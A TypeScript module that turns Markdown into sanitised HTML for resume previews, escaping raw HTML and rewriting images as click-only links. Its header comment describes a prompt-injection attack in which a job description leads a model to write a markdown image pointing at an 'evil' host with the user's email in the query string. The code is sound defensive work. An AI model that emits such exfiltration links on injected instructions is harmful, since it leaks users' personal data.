// Markdown to HTML for previews of resumes and generated documents. The one
// place the app turns user text into HTML: raw HTML is escaped (html: false)
// and markdown-it's link check refuses javascript:, vbscript:, file: and
// non-image data: URLs, so the output is safe for {@html}. Images are never
// emitted: a prompt-injected job description could otherwise make a model
// write ![x](https://evil/?q=<email>) and the browser would send it on sight.
import MarkdownIt, { type Token } from 'markdown-it';

const md = new MarkdownIt({ html: false, linkify: true, typographer: false, breaks: false });
const { escapeHtml } = md.utils;

const LINK_ATTRIBUTES = 'target="_blank" rel="noopener noreferrer nofollow"';

// Links leave the app: a new tab, no referrer, no search-ranking credit.
const defaultLinkOpen =
  md.renderer.rules.link_open ??
  ((tokens, index, options, _env, self) => self.renderToken(tokens, index, options));
md.renderer.rules.link_open = (tokens, index, options, env, self) => {
  const token = tokens[index]!;
  token.attrSet('target', '_blank');
  token.attrSet('rel', 'noopener noreferrer nofollow');
  return defaultLinkOpen(tokens, index, options, env, self);
};

/** Whether tokens[index] sits between a link_open and its link_close. */
function insideLink(tokens: Token[], index: number): boolean {
  let depth = 0;
  for (let i = index - 1; i >= 0; i -= 1) {
    const type = tokens[i]!.type;
    if (type === 'link_close') depth -= 1;
    else if (type === 'link_open') depth += 1;
    if (depth > 0) return true;
  }
  return false;
}

// An image becomes a link the person can choose to follow, named by its alt
// text; one that is not http(s) (data:, relative) or already inside a link
// becomes its alt text alone. Nothing loads until a click.
md.renderer.rules.image = (tokens, index, options, env, self) => {
  const token = tokens[index]!;
  const src = String(token.attrGet('src') ?? '');
  const alt = self.renderInlineAsText(token.children ?? [], options, env);
  const web = /^https?:\/\//i.test(src);
  const text = escapeHtml(alt || (web ? src : ''));
  if (!web || insideLink(tokens, index)) return text;
  return `<a href="${escapeHtml(src)}" ${LINK_ATTRIBUTES}>${text}</a>`;
};

/** Sanitised HTML for `text` (Markdown). */
export function renderMarkdown(text: string): string {
  return md.render(text);
}
